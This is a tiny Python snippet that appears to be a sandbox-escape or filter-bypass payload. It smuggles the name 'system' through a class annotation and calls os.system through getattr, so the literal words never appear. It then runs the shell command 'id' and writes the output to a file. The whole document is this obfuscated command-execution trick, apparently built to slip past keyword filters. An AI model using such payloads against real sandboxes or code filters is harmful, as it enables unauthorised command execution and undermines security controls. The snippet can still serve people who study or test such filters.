import os
class A:
    system: int
getattr(os, next(iter(A.__annotations__)))("id>pf")
